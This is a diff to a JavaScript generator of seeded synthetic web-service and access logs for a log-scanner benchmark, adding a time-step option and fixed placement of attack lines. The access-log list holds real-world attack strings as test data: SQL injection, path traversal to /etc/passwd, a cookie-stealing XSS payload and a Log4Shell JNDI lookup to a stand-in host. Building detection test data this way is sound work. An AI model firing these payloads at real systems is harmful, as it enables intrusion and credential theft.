@@ -1,12 +1,13 @@
 // Writes a realistic synthetic log for `logsignal scan`: the throughput benchmark's input and the
 // README's report. Seeded (same file every time).
 //
-//   node bench/generate-log.js <out> [--lines 1000000] [--kind app|access] [--seed 42]
+//   node bench/generate-log.js <out> [--lines 1000000] [--kind app|access] [--seed 42] [--step-ms 10]
 //
 // app: `2026-11-24T10:00:00.123Z INFO  orders: ...` lines of a web service (~90% INFO, 8% WARN, 2%
 //      ERROR), with a database outage (an error burst) at 60% and a new kind of message at 80%.
 // access: Apache/nginx combined-format lines from a few hundred clients, with a scanner walking
-//      missing paths, a brute-force run on /login and a few injection attempts in query strings.
+//      missing paths, a brute-force run on /login, six injection attempts and a burst of 503s.
+// --step-ms: mean time between lines (app 10 ms, access 200 ms by default).
 import { createWriteStream } from 'node:fs';
 import { parseArgs } from 'node:util';
 import { mulberry32 } from './records.js';
@@ -14,14 +15,14 @@ import { mulberry32 } from './records.js';
 const START = Date.UTC(2026, 10, 24, 10, 0, 0);
 
 /** Lines of the `app` kind, as an iterator. */
-export function* appLines(n, seed = 42) {
+export function* appLines(n, seed = 42, stepMs = 10) {
   const rand = mulberry32(seed);
   const pick = (a) => a[Math.floor(rand() * a.length)];
   const hex = (k) => Array.from({ length: k }, () => '0123456789abcdef'[Math.floor(rand() * 16)]).join('');
   const services = ['orders', 'payments', 'cart', 'auth', 'search'];
   let t = START;
   for (let i = 0; i < n; i++) {
-    t += Math.floor(rand() * 20);
+    t += Math.floor(rand() * 2 * stepMs);
     const iso = new Date(t).toISOString();
     const outage = i > n * 0.6 && i < n * 0.6 + Math.max(200, n / 500);
     const r = rand();
@@ -49,7 +50,7 @@ export function* appLines(n, seed = 42) {
 }
 
 /** Lines of the `access` kind, as an iterator. */
-export function* accessLines(n, seed = 42) {
+export function* accessLines(n, seed = 42, stepMs = 200) {
   const rand = mulberry32(seed);
   const pick = (a) => a[Math.floor(rand() * a.length)];
   const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
@@ -64,7 +65,7 @@ export function* accessLines(n, seed = 42) {
   const attacks = ["/api/search?q=shoes'%20UNION%20SELECT%20username,password%20FROM%20users--", '/products?id=1%20OR%201=1', '/download?file=../../../../etc/passwd', '/api/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E', '/?x=${jndi:ldap://203.0.113.9:1389/a}'];
   let t = START;
   for (let i = 0; i < n; i++) {
-    t += Math.floor(rand() * 400);
+    t += Math.floor(rand() * 2 * stepMs);
     const f = i / n;
     let ip = `198.51.100.${Math.floor(rand() * 200) + 1}`;
     let method = 'GET';
@@ -81,9 +82,9 @@ export function* accessLines(n, seed = 42) {
       method = 'POST';
       path = '/login';
       status = 401;
-    } else if (rand() < 0.0005) {
+    } else if (i % Math.floor(n / 6) === Math.floor(n / 12)) {
       ip = '203.0.113.9';
-      path = pick(attacks);
+      path = attacks[Math.floor(i / Math.floor(n / 6)) % attacks.length];
       status = 400;
     } else if (f > 0.7 && f < 0.7 + Math.max(50, n / 400) / n) {
       status = rand() < 0.6 ? 503 : 200;
@@ -93,13 +94,14 @@ export function* accessLines(n, seed = 42) {
 }
 
 if (process.argv[1] && import.meta.url.endsWith(process.argv[1].split('/').pop())) {
-  const { values, positionals } = parseArgs({ allowPositionals: true, options: { lines: { type: 'string', default: '1000000' }, kind: { type: 'string', default: 'app' }, seed: { type: 'string', default: '42' } } });
+  const { values, positionals } = parseArgs({ allowPositionals: true, options: { lines: { type: 'string', default: '1000000' }, kind: { type: 'string', default: 'app' }, seed: { type: 'string', default: '42' }, 'step-ms': { type: 'string' } } });
   if (positionals.length !== 1) {
     console.error('usage: node bench/generate-log.js <out> [--lines N] [--kind app|access] [--seed 42]');
     process.exit(2);
   }
   const out = createWriteStream(positionals[0]);
-  const gen = (values.kind === 'access' ? accessLines : appLines)(Number(values.lines), Number(values.seed));
+  const step = values['step-ms'] === undefined ? undefined : Number(values['step-ms']);
+  const gen = (values.kind === 'access' ? accessLines : appLines)(Number(values.lines), Number(values.seed), step);
   let buf = [];
   for (const line of gen) {
     buf.push(line);
